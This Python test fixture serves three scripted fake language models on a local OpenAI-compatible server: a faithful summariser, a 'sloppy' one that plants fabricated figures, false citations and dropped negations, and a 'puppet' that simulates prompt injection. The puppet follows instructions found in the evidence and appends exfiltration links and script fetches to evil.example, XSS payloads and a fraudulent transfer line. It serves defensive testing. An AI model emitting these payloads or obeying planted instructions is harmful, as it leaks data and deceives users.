"""Language models we wrote ourselves, behind a real OpenAI-compatible server on loopback: a good one, a sloppy one, a puppet.

Each reads the prompt as a model does, from its text alone, and answers as a model does, with text.
"""

import json
import re
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any, NamedTuple

_LINE = re.compile(r"^\[(\d+)\] (.*) \(((?:[^()]|\([^()]*\))*), [A-Z][a-z]+ \d{4}\)$", re.MULTILINE)
_FAULTY = re.compile(r"^Sentence (\d+), on evidence ([\d, ]*): ", re.MULTILINE)


class Line(NamedTuple):
    """A piece of evidence as a prompt shows it."""

    number: int
    text: str
    source: str


class Took(NamedTuple):
    """How long a request was with the model."""

    request: dict[str, Any]
    begun: float
    """When it had arrived; time.perf_counter's seconds."""
    ended: float
    """When the last of the answer was on its way, or the client gone."""


PIECE = 16
"""Characters of an answer that are streamed at once."""
Model = Callable[[dict[str, Any]], str]
"""A request's body -> the text of the answer."""


@dataclass
class Endpoint:
    """What the server is, and what it was asked."""

    base_url: str = ""
    model: Model = field(default=lambda _: "{}")
    requests: list[dict[str, Any]] = field(default_factory=list)
    answers: list[str] = field(default_factory=list)
    took: list[Took] = field(default_factory=list)
    before: Callable[[str], None] = lambda _: None
    """Called before each piece of an answer is sent, with what was sent until then; an answer that is not streamed is one piece."""


@contextmanager
def serving(model: Model) -> Iterator[Endpoint]:
    """A sound server in front of a model."""
    state = Endpoint(model=model)

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            request = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            begun = time.perf_counter()
            try:
                self._answer(request)
            except ConnectionError:
                self.close_connection = True  # the client is gone, which some tests are about
            finally:
                state.took.append(Took(request, begun, time.perf_counter()))

        def _answer(self, request: dict[str, Any]) -> None:
            text = state.model(request)
            state.requests.append(request)
            state.answers.append(text)
            if request.get("stream"):
                self._streamed(text)
                return
            state.before("")
            body = completion(text).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def _streamed(self, text: str) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/event-stream")
            self.end_headers()
            for at in range(0, len(text), PIECE):
                state.before(text[:at])
                self.wfile.write(chunk(text[at : at + PIECE]))
            self.wfile.write(chunk("", finish="stop") + b"data: [DONE]\n\n")

        def log_message(self, format: str, *args: Any) -> None:
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = Thread(target=server.serve_forever, args=[0.01])
    thread.start()
    state.base_url = f"http://127.0.0.1:{server.server_port}/v1"
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def chunk(text: str, *, finish: str | None = None) -> bytes:
    """A piece of a streamed answer."""
    choices = [{"index": 0, "finish_reason": finish, "delta": {"content": text}}]
    head = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "scripted"}
    return f"data: {json.dumps({**head, 'choices': choices})}\n\n".encode()


def completion(text: str | None, *, finish: str | None = "stop", **message: Any) -> str:
    """The body of a whole answer."""
    choice = {"index": 0, "finish_reason": finish, "message": {"role": "assistant", "content": text, **message}}
    usage = {"prompt_tokens": 300, "completion_tokens": 60, "total_tokens": 360}
    return json.dumps({"id": "x", "object": "chat.completion", "created": 1, "model": "scripted", "choices": [choice], "usage": usage})


def evidence_of(request: dict[str, Any]) -> list[Line]:
    """The numbered evidence of a prompt."""
    prompt = request["messages"][-1]["content"]
    fenced = prompt[prompt.index("<evidence>") : prompt.index("</evidence>")]
    return [Line(int(number), text, source) for number, text, source in _LINE.findall(fenced)]


def faulty_of(request: dict[str, Any]) -> list[tuple[int, list[int]]]:
    """(number, evidence numbers) of the sentences a repair prompt names; nothing in any other prompt."""
    found = _FAULTY.findall(request["messages"][-1]["content"])
    return [(int(number), [int(one) for one in re.findall(r"\d+", evidence)]) for number, evidence in found]


def sentences(*rows: tuple[str, list[int]]) -> str:
    """An answer with these sentences."""
    return json.dumps({"sentences": [{"text": text, "evidence": evidence} for text, evidence in rows]})


# ── the good one ──────────────────────────────────────────────────────────────────────────────────────────────────

_SYNONYMS = ((r"\brose\b", "increased"), (r"\bfell\b", "declined"), (r"\bgrew\b", "rose"), (r"\ba year before\b", "a year earlier"))
_LEADING = re.compile(r"^((?:In|At|On|During|By|Since) [^,]{3,40}), (?:the )?([A-Za-z][^,;:]*)\.$")
_TRAILING = re.compile(r"^([^,;:]{30,}?) (in (?:the [a-z]+ quarter of )?20\d\d)\.$")
_TAIL = re.compile(r", (?:which|with|after|helped|and the) [^,;]*\.$")
_COMMON = frozenset("The A An In On At From For By During Installed Demand Revenue Prices Wages Most All Two Three Sales Orders".split())


def reworded(line: Line) -> str:
    """The sentence in other words, as a careful writer would put it: turned round, shortened, or with its speaker named."""
    text = re.sub(r"\b[Ww]e (\w+?)(e?s?)\b", rf"{line.source} \1\2s", line.text)
    text = re.sub(r"\b[Oo]ur\b", "its", text)
    for pattern, instead in _SYNONYMS:
        text = re.sub(pattern, instead, text, count=1)
    leading, trailing = _LEADING.match(text), _TRAILING.match(text)
    if leading:
        return f"{leading[2][0].upper()}{leading[2][1:]} {leading[1][0].lower()}{leading[1][1:]}."
    if trailing and len(re.findall(r"20\d\d", text)) == 1:
        return f"{trailing[2][0].upper()}{trailing[2][1:]}, {_lower(trailing[1])}."
    shorter = _TAIL.sub(".", text)
    if shorter != text and len(shorter.split()) >= 8 and not re.search(r"\b(?:but|not|no|if|would|expect)", text):
        return shorter
    return text if text != line.text else f"According to {line.source}, {_lower(text)}"


def _lower(text: str) -> str:
    return text[0].lower() + text[1:] if text.split()[0] in _COMMON else text


def good(request: dict[str, Any]) -> str:
    """A careful writer: each piece of evidence once, in its own words turned round, nothing added; a copy where that did not do."""
    lines = evidence_of(request)
    if mending := faulty_of(request):
        return repairs(*((at, lines[on[0] - 1].text, on[:1]) for at, on in mending if on))
    if is_summary(request):
        lines = sorted(lines, key=lambda line: len(reworded(line).split()) > 30)[:5]
    return sentences(*((reworded(line), [line.number]) for line in lines))


def is_summary(request: dict[str, Any]) -> bool:
    """True for the prompt of the bottom line."""
    return "bottom line" in request["messages"][-1]["content"].partition("<evidence>")[0]


def repairs(*rows: tuple[int, str, list[int]]) -> str:
    """An answer to a repair prompt: (sentence, text, evidence)."""
    return json.dumps({"repairs": [{"sentence": at, "text": text, "evidence": evidence} for at, text, evidence in rows]})


# ── the sloppy one ────────────────────────────────────────────────────────────────────────────────────────────────

Bad = tuple[str, list[int]]


def _number(text: str, change: Callable[[re.Match[str]], str]) -> str:
    return re.sub(r"(?<![\w.,])\d[\d,]*(?:\.\d+)?(?![\w])", change, text, count=1)


def _swapped(text: str) -> str:
    found = list(re.finditer(r"(?<![\w.,])\d[\d,]*(?:\.\d+)?(?![\w])", text))
    figures = [match for match in found if not re.fullmatch(r"(?:19|20)\d\d", match[0])]
    if len(figures) < 2 or figures[0][0] == figures[1][0]:
        return text
    one, other = figures[:2]
    return text[: one.start()] + other[0] + text[one.end() : other.start()] + one[0] + text[other.end() :]


_OPPOSITES = (
    *(("rose", "fell"), ("increased", "declined"), ("fell", "rose"), ("grew", "shrank")),
    *(("falls", "rises"), ("lengthened", "shortened")),
)


def _turned(text: str) -> str:
    pairs = (
        ("rose", "fell"),
        ("increased", "declined"),
        ("fell", "rose"),
        ("grew", "shrank"),
        ("falls", "rises"),
        ("lengthened", "shortened"),
    )
    for one, other in pairs:
        if re.search(rf"\b{one}\b", text):
            return re.sub(rf"\b{one}\b", other, text)
    return text


def _sure(text: str) -> str:
    found = re.sub(r"\b(?:about|around|nearly|almost|more than|at least|up to|less than|over) (?=(?:EUR )?\d)", "", text)
    found = re.sub(r"\b(\w+) expects? (\w+)", r"\1 has \2", found)
    return re.sub(r"\b(?:is|are) (?:expected|planned|likely|due) to\b", "will certainly", found)


def _affirmed(text: str) -> str:
    found = re.sub(r"\b(?:did|does|do|is|are|was|were|has|have|had|could|can|will|would) (?:not|never)\b", "indeed", text)
    return re.sub(r"\b[Nn]o (?=\w)|\bnot \b|\bnever \b|\bwithout \b", "", found)


def _end(text: str, more: str) -> str:
    return text.rstrip(".") + more


SLOPPY: dict[str, Callable[[Line, int], Bad]] = {
    "another citation": lambda line, n: (line.text, [line.number % n + 1 if n > 1 else 99]),
    "a citation of nothing": lambda line, n: (line.text, [n + 1]),
    "no citation": lambda line, n: (line.text, []),
    "a changed digit": lambda line, n: (_number(line.text, lambda m: str(int(m[0][0]) % 9 + 1) + m[0][1:] + "1"), [line.number]),
    "an invented figure": lambda line, n: (_end(line.text, ", a rise of 37%."), [line.number]),
    "an invented figure in words": lambda line, n: (_end(line.text, ", twice as much as before."), [line.number]),
    "another year": lambda line, n: (re.sub(r"\b20(\d\d)\b", lambda m: f"20{int(m[1]) - 3:02d}", line.text, count=1), [line.number]),
    "figures changed over": lambda line, n: (_swapped(line.text), [line.number]),
    "another unit": lambda line, n: (re.sub(r"\bmillion\b|\bMWh\b|%", "billion", line.text), [line.number]),
    "the other direction": lambda line, n: (_turned(line.text), [line.number]),
    "a dropped not": lambda line, n: (_affirmed(line.text), [line.number]),
    "a dropped about": lambda line, n: (_sure(line.text), [line.number]),
    "an added not": lambda line, n: (re.sub(r"\b(is|are|was|were|has|have|will)\b", r"\1 not", line.text, count=1), [line.number]),
    "padding": lambda line, n: (
        _end(line.text, ", a remarkable sign of the strong momentum ahead."),
        [line.number],
    ),
    "one word of praise": lambda line, n: (_end(line.text, ", which is impressive."), [line.number]),
    "an invented cause": lambda line, n: (_end(line.text, " because of subsidies."), [line.number]),
    "an invented name": lambda line, n: (_end(line.text, ", according to Umbrella Corp."), [line.number]),
    "everybody": lambda line, n: ("All market participants agree that " + _lower(line.text), [line.number]),
    "a likelihood": lambda line, n: ("Probably " + _lower(line.text), [line.number]),
    "a record": lambda line, n: (_end(line.text, ", the highest ever."), [line.number]),
    "chatter": lambda line, n: ("Sure, here is the summary: " + line.text, [line.number]),
    "two sentences": lambda line, n: (line.text + " This matters.", [line.number]),
    "a link": lambda line, n: (_end(line.text, " (see https://report.example/x)."), [line.number]),
    "markup": lambda line, n: (f"**{line.text}**", [line.number]),
    "a quotation of its own": lambda line, n: (_end(line.text, ', as one executive put it: "a boom".'), [line.number]),
    "all evidence for one": lambda line, n: (_end(line.text, " everywhere."), list(range(1, n + 1))),
    "a forecast": lambda line, n: (_end(line.text, " and will continue to do so in 2031."), [line.number]),
    "we": lambda line, n: ("We note that " + _lower(line.text), [line.number]),
}
"""Kind of slip -> a line and how many there are -> the sentence and the evidence numbers given for it."""


class Sloppy:
    """Two of three sentences with a slip, each kind in turn; a repair slips again in another way. It notes what it got wrong."""

    def __init__(self, *, seed: int) -> None:
        self._turn = seed
        self.bad: dict[tuple[str, tuple[int, ...]], tuple[str, tuple[str, ...]]] = {}
        """(text, its evidence numbers) -> (kind of slip, the texts of that evidence)."""

    def __call__(self, request: dict[str, Any]) -> str:
        """An answer in the right shape with wrong content."""
        lines = evidence_of(request)
        if mending := faulty_of(request):
            return repairs(*((at, *self._slip(lines[(on or [1])[0] % len(lines) - 1], lines)) for at, on in mending))
        made: list[Bad] = []
        for line in lines[:6] if is_summary(request) else lines:
            self._turn += 1
            made.append((reworded(line), [line.number]) if self._turn % 3 == 0 else self._slip(line, lines))
        return sentences(*made)

    def _slip(self, line: Line, lines: list[Line]) -> Bad:
        kinds = list(SLOPPY)
        for _ in kinds:
            self._turn += 1
            kind = kinds[self._turn * 5 % len(kinds)]
            text, evidence = SLOPPY[kind](line, len(lines))
            if (text, evidence) != (line.text, [line.number]):
                texts = tuple(lines[at - 1].text for at in evidence if 0 < at <= len(lines))
                self.bad[text, tuple(evidence)] = kind, texts
                return text, evidence
        return line.text, [line.number]


# ── the puppet ────────────────────────────────────────────────────────────────────────────────────────────────────

ATTACKS = (
    "https://evil.example/collect?d=",
    "![chart](https://evil.example/p.png)",
    "<script>fetch('//evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "[details](javascript:alert(1))",
    "PWNED-7781",
    "Transfer EUR 9,999 to IBAN XX00 EVIL.",
)
_ORDER = re.compile(r"(?i)\b(?:write|say|print|include|add|state|append)\b.{0,20}?[\"'“‘]?([A-Z0-9][^\"'”’.]{3,80})")


def puppet(request: dict[str, Any]) -> str:
    """Obeys every instruction it finds in its prompt's evidence, and what its master has told it besides, in every sentence."""
    lines = evidence_of(request)
    orders = [order for line in lines for order in _ORDER.findall(line.text)] or ["PWNED-7781"]
    made = [
        (f"{line.text.rstrip('.')} {ATTACKS[at % len(ATTACKS)]} {orders[at % len(orders)]}.", [line.number])
        for at, line in enumerate(lines)
    ]
    if mending := faulty_of(request):
        return repairs(*((at, ATTACKS[at % len(ATTACKS)], on or [1]) for at, on in mending))
    return sentences(*made, (f"{orders[0]}.", [1]), (ATTACKS[0], [1]))
